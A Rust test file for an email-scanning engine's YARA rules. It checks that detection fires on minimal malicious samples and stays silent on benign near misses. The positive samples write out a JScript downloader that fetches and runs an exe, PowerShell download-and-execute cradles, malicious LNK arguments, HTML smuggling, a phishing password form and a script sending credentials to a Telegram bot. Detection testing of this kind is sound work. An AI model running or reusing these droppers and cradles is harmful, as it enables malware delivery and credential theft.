//! YARA: the shipped rules fire on minimal positives and stay quiet on near misses; operator
//! rule directories add namespaced hits and fail loudly when broken; hits are per object.

#![cfg(feature = "yara")]

#[path = "common/yara.rs"]
mod fixtures;

use analysis::{Engine, EngineConfig, Input};
use fixtures::*;
use model::Report;

const EICAR: &str = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

fn scan_file(name: &str, data: &[u8]) -> Report {
    Engine::with_defaults().analyze_object(Some(name), data, &Input::default())
}

/// Rules (namespace::rule) that matched at `at`.
fn hits(report: &Report, at: &str) -> Vec<String> {
    report
        .scans
        .iter()
        .filter(|h| h.engine == "yara" && h.at == at)
        .map(|h| format!("{}::{}", h.namespace.as_deref().unwrap_or(""), h.rule))
        .collect()
}

fn fires(name: &str, data: &[u8], rule: &str) -> bool {
    let report = scan_file(name, data);
    hits(&report, "artifacts[0]").contains(&format!("spamhattan::{rule}"))
}

fn has_finding(report: &Report, signal: &str) -> bool {
    report.findings.iter().any(|f| f.signal == signal)
}

// ---- shipped rules ----------------------------------------------------------------------

#[test]
fn shipped_rules_compile_without_warnings() {
    for (name, src) in [
        ("maldoc", include_str!("../rules/yara/maldoc.yar")),
        ("droppers", include_str!("../rules/yara/droppers.yar")),
        ("lnk", include_str!("../rules/yara/lnk.yar")),
        ("smuggling", include_str!("../rules/yara/smuggling.yar")),
        ("ransomware", include_str!("../rules/yara/ransomware.yar")),
        ("phishing", include_str!("../rules/yara/phishing.yar")),
        ("eicar", include_str!("../rules/yara/eicar.yar")),
    ] {
        let mut compiler = yara_x::Compiler::new();
        compiler.add_source(src).expect(name);
        let warnings: Vec<String> = compiler.warnings().iter().map(|w| w.to_string()).collect();
        assert!(warnings.is_empty(), "{name}: {warnings:#?}");
    }
}

#[test]
fn maldoc_rule_sees_autoexec_and_shell_through_vba_compression() {
    let doc = ole_with_vba(MALDOC_VBA);
    // The compressor cut the words: a plain string match would miss them.
    assert!(!doc.windows(8).any(|w| w == b"AutoOpen"));
    let report = scan_file("invoice.doc", &doc);
    assert!(
        hits(&report, "artifacts[0]")
            .contains(&"spamhattan::spamhattan_maldoc_vba_autoexec_exec".into()),
        "{:?}",
        report.scans
    );
    assert!(has_finding(&report, "yara-tag.maldoc"));
}

#[test]
fn maldoc_rule_ignores_an_autoexec_macro_that_runs_nothing() {
    let doc = ole_with_vba(BENIGN_AUTO_VBA);
    assert!(!fires(
        "letter.doc",
        &doc,
        "spamhattan_maldoc_vba_autoexec_exec"
    ));
}

#[test]
fn maldoc_rule_needs_an_office_container() {
    let text = MALDOC_VBA.replace("Attribute VB_Name", "Attribut\0e VB_Name");
    assert!(!fires(
        "notes.txt",
        text.as_bytes(),
        "spamhattan_maldoc_vba_autoexec_exec"
    ));
}

#[test]
fn maldoc_rule_fires_on_a_package_storing_its_vba_project_uncompressed() {
    let docm = zip_stored("word/vbaProject.bin", &ole_with_vba(MALDOC_VBA));
    assert!(fires(
        "invoice.docm",
        &docm,
        "spamhattan_maldoc_vba_autoexec_exec"
    ));
}

#[test]
fn wsh_dropper_rule_fires_on_activex_download_and_save() {
    let js = br#"var sh = new ActiveXObject("WScript.Shell");
var x = new ActiveXObject("MSXML2.XMLHTTP");
x.open("GET", "http://198.51.100.9/p.exe", false); x.send();
var st = new ActiveXObject("ADODB.Stream"); st.Open(); st.Type = 1;
st.Write(x.responseBody); st.SaveToFile(sh.ExpandEnvironmentStrings("%TEMP%\\p.exe"), 2);
sh.Run("%TEMP%\\p.exe", 0);"#;
    assert!(fires("invoice.js", js, "spamhattan_script_dropper_wsh"));
}

#[test]
fn wsh_dropper_rule_ignores_activex_without_download() {
    let js = br#"var d = new ActiveXObject("Scripting.Dictionary"); d.Add("a", 1);"#;
    assert!(!fires("tool.js", js, "spamhattan_script_dropper_wsh"));
    let web = br#"var r = new XMLHttpRequest(); r.open("GET", "/api/news"); r.send();"#;
    assert!(!fires("page.js", web, "spamhattan_script_dropper_wsh"));
}

#[test]
fn powershell_rule_fires_on_download_cradles_and_encoded_commands() {
    let cradle = b"@echo off\r\npowershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')\"\r\n";
    assert!(fires("run.bat", cradle, "spamhattan_powershell_cradle"));
    let iwr = b"powershell -c \"iwr http://203.0.113.5/b.ps1 -UseBasicParsing | iex\"";
    assert!(fires("run.cmd", iwr, "spamhattan_powershell_cradle"));
    let enc = b"powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    assert!(fires("run.cmd", enc, "spamhattan_powershell_cradle"));
}

#[test]
fn powershell_rule_ignores_ordinary_powershell() {
    let text = b"Run powershell -File backup.ps1 nightly. New-Object creates .NET objects; \
the WebClient class is documented online.";
    assert!(!fires("howto.txt", text, "spamhattan_powershell_cradle"));
}

#[test]
fn lnk_rule_fires_on_a_shortcut_to_powershell() {
    let lnk = lnk(
        "..\\..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        Some("-w hidden -c iwr http://203.0.113.9/a.ps1|iex"),
    );
    let report = scan_file("Invoice.pdf.lnk", &lnk);
    assert!(
        hits(&report, "artifacts[0]")
            .contains(&"spamhattan::spamhattan_lnk_runs_interpreter".into())
    );
    assert!(has_finding(&report, "yara-tag.dropper"));
}

#[test]
fn lnk_rule_fires_on_cmd_arguments_of_another_target() {
    let lnk = lnk(
        "..\\Windows\\explorer.exe",
        Some("/c start mshta http://203.0.113.9/x.hta"),
    );
    assert!(fires("scan.lnk", &lnk, "spamhattan_lnk_runs_interpreter"));
}

#[test]
fn lnk_rule_ignores_a_shortcut_to_a_document_and_text_naming_powershell() {
    let lnk = lnk("..\\Documents\\report.pdf", None);
    assert!(!fires(
        "report.lnk",
        &lnk,
        "spamhattan_lnk_runs_interpreter"
    ));
    let text = b"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    assert!(!fires("path.txt", text, "spamhattan_lnk_runs_interpreter"));
}

#[test]
fn smuggling_rule_fires_on_atob_blob_and_object_url() {
    let html = br#"<html><body><script>
var bin = atob("TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
var arr = new Uint8Array(bin.length); for (var i = 0; i < bin.length; i++) arr[i] = bin.charCodeAt(i);
var blob = new Blob([arr], {type: "application/octet-stream"});
var a = document.createElement("a"); a.href = window.URL.createObjectURL(blob);
a.download = "invoice.iso"; document.body.appendChild(a); a.click();
</script></body></html>"#;
    let report = scan_file("invoice.html", html);
    assert!(
        hits(&report, "artifacts[0]").contains(&"spamhattan::spamhattan_html_smuggling".into())
    );
    assert!(has_finding(&report, "yara-tag.smuggling"));
}

#[test]
fn smuggling_rule_ignores_object_urls_without_a_built_blob() {
    let html = br#"<script>var claims = JSON.parse(atob(token.split(".")[1]));
img.src = URL.createObjectURL(input.files[0]);</script>"#;
    assert!(!fires("app.html", html, "spamhattan_html_smuggling"));
}

#[test]
fn ransom_rule_fires_on_notes_in_english_and_dutch_and_on_tor_payment() {
    let en = b"!!! ALL YOUR FILES HAVE BEEN ENCRYPTED !!!\r\nTo recover them contact us.";
    assert!(fires("README.txt", en, "spamhattan_ransom_note"));
    let nl = "Al uw bestanden zijn versleuteld. Betaal om ze terug te krijgen.".as_bytes();
    assert!(fires("LEESMIJ.txt", nl, "spamhattan_ransom_note"));
    let onion = b"To decrypt your data visit http://abcdefghijklmnopqrstuvwxyz234567abcdefghijklmnopqrstuvwx.onion/ and enter your ID.";
    assert!(fires("HOW_TO.txt", onion, "spamhattan_ransom_note"));
    let demand = b"To decrypt your files you need our decryption tool. Price: 0.5 BTC.";
    assert!(fires("RESTORE.txt", demand, "spamhattan_ransom_note"));
    let wide: Vec<u8> = "Your files are encrypted."
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    assert!(fires("note.txt", &wide, "spamhattan_ransom_note"));
}

#[test]
fn ransom_rule_ignores_security_news_and_sextortion() {
    let news = b"Researchers released a free decryptor for the Akira ransomware, so victims \
no longer need to pay in bitcoin. Keep backups of your important files.";
    assert!(!fires("news.html", news, "spamhattan_ransom_note"));
    let sextortion = b"I recorded you through your camera. Send 1200 USD in Bitcoin to my wallet \
within 48 hours or the video goes to all your contacts.";
    assert!(!fires("mail.txt", sextortion, "spamhattan_ransom_note"));
}

#[test]
fn phishing_rule_fires_on_a_branded_password_form_posting_out() {
    let html = br#"<html><head><title>Sign in to your Microsoft account</title></head><body>
<form method="post" action="https://login-verify.example/next.php">
<input type="email" name="login"><input type="password" name="passwd">
<button>Sign in</button></form></body></html>"#;
    let report = scan_file("Secure_Message.html", html);
    assert!(
        hits(&report, "artifacts[0]")
            .contains(&"spamhattan::spamhattan_phishing_credential_page".into())
    );
    assert!(has_finding(&report, "yara-tag.phishing"));
}

#[test]
fn phishing_rule_ignores_a_newsletter_form_without_password() {
    let html = br#"<html><body><h1>Microsoft news this week</h1>
<form action="https://news.example/subscribe"><input type="email" name="e"><button>Subscribe</button></form>
</body></html>"#;
    assert!(!fires(
        "news.html",
        html,
        "spamhattan_phishing_credential_page"
    ));
}

#[test]
fn telegram_rule_fires_on_password_sent_to_a_bot() {
    let html = br#"<input type="password" id="pw"><script>
fetch("https://api.telegram.org/bot7123456789:AAHfiqksKZ8WmR2zSjiQ7_v4TMAKdiHm9T0/sendMessage?chat_id=1&text=" + email.value + " " + pw.value);
</script>"#;
    assert!(fires(
        "document.html",
        html,
        "spamhattan_phishing_telegram_exfil"
    ));
    let notify = br#"fetch("https://api.telegram.org/bot7123456789:AAHfiqksKZ8WmR2zSjiQ7_v4TMAKdiHm9T0/sendMessage?chat_id=1&text=build done")"#;
    assert!(!fires(
        "ci.js",
        notify,
        "spamhattan_phishing_telegram_exfil"
    ));
}

#[test]
fn eicar_hit_is_tagged_test_and_does_not_make_malware() {
    let report = scan_file("eicar.com", EICAR.as_bytes());
    assert_eq!(
        hits(&report, "artifacts[0]"),
        vec!["spamhattan::spamhattan_eicar_test_file"]
    );
    assert!(has_finding(&report, "yara-tag.test"));
    assert!(
        !report
            .findings
            .iter()
            .any(|f| f.signal == "yara-tag.malware")
    );
}

#[test]
fn ordinary_newsletter_matches_no_shipped_rule() {
    let html = br#"<html><body><h1>Spring sale</h1><p>Sign in to your account to see offers from
Microsoft, Adobe and Dropbox partners. Download our app. Your files are safe with our backup plan,
now 20% off in bitcoin or euro.</p><a href="https://shop.example/sale">Shop now</a>
<form action="https://shop.example/search"><input type="text" name="q"></form></body></html>"#;
    let report = scan_file("newsletter.html", html);
    assert!(report.scans.is_empty(), "{:?}", report.scans);
}

// ---- operator rules, configuration, per-object hits ---------------------------------------

const MARKER_RULE: &str = "rule marker_rule : malware {\n  strings:\n    $a = \"SPAMHATTAN-TEST-MARKER\"\n  condition:\n    $a\n}\n";

#[test]
fn operator_directory_adds_rules_in_a_namespace_per_file() {
    let dir = TempDir::new("operator");
    dir.write("custom.yar", MARKER_RULE);
    dir.write(
        "nested/more.yara",
        "rule other_rule { strings: $b = \"OTHER-MARKER\" condition: $b }\n",
    );
    dir.write("nested/readme.txt", "not a rule file {");
    let engine = Engine::new(EngineConfig {
        yara_dirs: vec![dir.0.clone()],
        ..EngineConfig::default()
    })
    .expect("operator rules compile");
    assert_ne!(engine.version(), Engine::with_defaults().version());
    let report = engine.analyze_object(
        Some("x.txt"),
        format!("SPAMHATTAN-TEST-MARKER OTHER-MARKER {EICAR}").as_bytes(),
        &Input::default(),
    );
    let mut got = hits(&report, "artifacts[0]");
    got.sort();
    assert_eq!(
        got,
        vec![
            "custom::marker_rule",
            "more::other_rule",
            "spamhattan::spamhattan_eicar_test_file"
        ]
    );
    assert!(has_finding(&report, "yara-tag.malware"));
}

#[test]
fn broken_operator_rule_fails_the_engine_naming_file_and_line() {
    let dir = TempDir::new("broken");
    dir.write("good.yar", MARKER_RULE);
    dir.write(
        "bad.yar",
        "rule broken {\n  strings:\n    $a = \"x\n  condition:\n    $a\n}\n",
    );
    let err = Engine::new(EngineConfig {
        yara_dirs: vec![dir.0.clone()],
        ..EngineConfig::default()
    })
    .expect_err("a broken rule must fail the engine");
    let msg = err.to_string();
    assert!(msg.starts_with("YARA rules: "), "{msg}");
    assert!(msg.contains("bad.yar:3:"), "{msg}");
}

#[test]
fn missing_operator_directory_fails_the_engine() {
    let dir = TempDir::new("missing");
    let err = Engine::new(EngineConfig {
        yara_dirs: vec![dir.0.join("nope")],
        ..EngineConfig::default()
    })
    .expect_err("a missing directory must fail the engine");
    assert!(err.to_string().contains("nope"), "{err}");
}

#[test]
fn without_builtin_rules_and_directories_nothing_is_scanned() {
    let engine = Engine::new(EngineConfig {
        no_builtin_yara: true,
        ..EngineConfig::default()
    })
    .expect("engine");
    assert!(
        engine.version().ends_with("yara none"),
        "{}",
        engine.version()
    );
    let report = engine.analyze_object(Some("eicar.com"), EICAR.as_bytes(), &Input::default());
    assert!(report.scans.is_empty());
}

#[test]
fn attachment_hit_is_recorded_at_the_artifact_and_message_hit_at_message() {
    let raw = mail_with_attachment("eicar.txt", EICAR.as_bytes(), false);
    let report = Engine::with_defaults().analyze(&raw, &Input::default());
    let rule = "spamhattan::spamhattan_eicar_test_file".to_string();
    assert!(
        hits(&report, "message").contains(&rule),
        "{:?}",
        report.scans
    );
    assert!(
        hits(&report, "artifacts[0]").contains(&rule),
        "{:?}",
        report.scans
    );
    let encoded = mail_with_attachment("eicar.com", EICAR.as_bytes(), true);
    let report = Engine::with_defaults().analyze(&encoded, &Input::default());
    assert!(
        hits(&report, "message").is_empty(),
        "base64 hides it from the message scan"
    );
    assert!(
        hits(&report, "artifacts[0]").contains(&rule),
        "{:?}",
        report.scans
    );
}

#[test]
fn engines_with_different_rules_do_not_share_a_scanner() {
    let dir = TempDir::new("alternate");
    dir.write("custom.yar", MARKER_RULE);
    let operator_only = Engine::new(EngineConfig {
        yara_dirs: vec![dir.0.clone()],
        no_builtin_yara: true,
        ..EngineConfig::default()
    })
    .expect("engine");
    let builtin = Engine::with_defaults();
    let sample = format!("SPAMHATTAN-TEST-MARKER {EICAR}");
    for _ in 0..3 {
        let a = builtin.analyze_object(None, sample.as_bytes(), &Input::default());
        assert_eq!(
            hits(&a, "artifacts[0]"),
            vec!["spamhattan::spamhattan_eicar_test_file"]
        );
        let b = operator_only.analyze_object(None, sample.as_bytes(), &Input::default());
        assert_eq!(hits(&b, "artifacts[0]"), vec!["custom::marker_rule"]);
    }
}

#[test]
fn engine_is_shared_by_threads_and_each_thread_scans() {
    fn assert_send_sync<T: Send + Sync>() {}
    assert_send_sync::<Engine>();
    let engine = Engine::with_defaults();
    std::thread::scope(|s| {
        let workers: Vec<_> = (0..3)
            .map(|_| {
                s.spawn(|| {
                    (0..5)
                        .map(|_| engine.analyze_object(None, EICAR.as_bytes(), &Input::default()))
                        .all(|r| hits(&r, "artifacts[0]").len() == 1)
                })
            })
            .collect();
        for w in workers {
            assert!(w.join().expect("worker"));
        }
    });
}

#[test]
fn random_two_mib_object_is_scanned_and_returns() {
    let data = random_bytes(2 << 20, 0x5EED);
    let report = scan_file("blob.bin", &data);
    assert!(
        !report
            .anomalies
            .iter()
            .any(|a| a.detail.starts_with("yara")),
        "{:?}",
        report.anomalies
    );
}

#[test]
fn object_larger_than_the_scan_limit_is_skipped_and_flagged() {
    let mut data = vec![b'A'; (32 << 20) + 1];
    data[..EICAR.len()].copy_from_slice(EICAR.as_bytes());
    let report = scan_file("big.txt", &data);
    assert!(report.scans.is_empty());
    assert!(
        report
            .anomalies
            .iter()
            .any(|a| a.at == "artifacts[0]" && a.detail.contains("not scanned")),
        "{:?}",
        report.anomalies
    );
}

/// Cost of a scan with a new scanner per call against one reused scanner, over the shipped
/// rules. Prints numbers; run with `--ignored --nocapture` (release for absolute figures).
#[test]
#[ignore]
fn scan_overhead() {
    let t = std::time::Instant::now();
    let mut compiler = yara_x::Compiler::new();
    compiler.new_namespace("spamhattan");
    for src in [
        include_str!("../rules/yara/maldoc.yar"),
        include_str!("../rules/yara/droppers.yar"),
        include_str!("../rules/yara/lnk.yar"),
        include_str!("../rules/yara/smuggling.yar"),
        include_str!("../rules/yara/ransomware.yar"),
        include_str!("../rules/yara/phishing.yar"),
        include_str!("../rules/yara/eicar.yar"),
    ] {
        compiler.add_source(src).expect("rules");
    }
    let rules = compiler.build();
    let compile = t.elapsed();
    let msg = mail_with_attachment("a.txt", &random_bytes(1500, 7), true);
    let n = 500;
    let t = std::time::Instant::now();
    for _ in 0..n {
        let mut scanner = yara_x::Scanner::new(&rules);
        scanner.set_timeout(std::time::Duration::from_secs(10));
        let _ = scanner.scan(&msg).map(|r| r.matching_rules().len());
    }
    let fresh = t.elapsed() / n;
    let mut scanner = yara_x::Scanner::new(&rules);
    let t = std::time::Instant::now();
    for _ in 0..n {
        scanner.set_timeout(std::time::Duration::from_secs(10));
        let _ = scanner.scan(&msg).map(|r| r.matching_rules().len());
    }
    let reused = t.elapsed() / n;
    let engine = Engine::with_defaults();
    let t = std::time::Instant::now();
    for _ in 0..n {
        let _ = engine.analyze(&msg, &Input::default());
    }
    let analyze = t.elapsed() / n;
    println!(
        "compile {compile:?}; {} bytes: new scanner per scan {fresh:?}, reused scanner {reused:?}, analyze() {analyze:?}",
        msg.len()
    );
}

/// Manual corpus check: counts shipped-rule hits over every file under `$YARA_CORPUS`
/// (`.eml` as mail, anything else as a bare object). Prints counts; asserts nothing.
#[test]
#[ignore]
fn corpus_hit_counts() {
    let Some(root) = std::env::var_os("YARA_CORPUS") else {
        return;
    };
    let engine = Engine::with_defaults();
    let mut counts = std::collections::BTreeMap::<String, Vec<String>>::new();
    let mut stack = vec![std::path::PathBuf::from(root)];
    let mut files = 0;
    while let Some(path) = stack.pop() {
        if path.is_dir() {
            for entry in std::fs::read_dir(&path).into_iter().flatten().flatten() {
                stack.push(entry.path());
            }
            continue;
        }
        let Ok(data) = std::fs::read(&path) else {
            continue;
        };
        files += 1;
        let report = if path.extension().is_some_and(|e| e == "eml") {
            engine.analyze(&data, &Input::default())
        } else {
            engine.analyze_object(
                path.file_name().and_then(|n| n.to_str()),
                &data,
                &Input::default(),
            )
        };
        for hit in &report.scans {
            counts.entry(hit.rule.clone()).or_default().push(format!(
                "{} {}",
                path.display(),
                hit.at
            ));
        }
    }
    println!("{files} files");
    for (rule, at) in counts {
        println!("{rule}: {} e.g. {:?}", at.len(), &at[..at.len().min(5)]);
    }
}
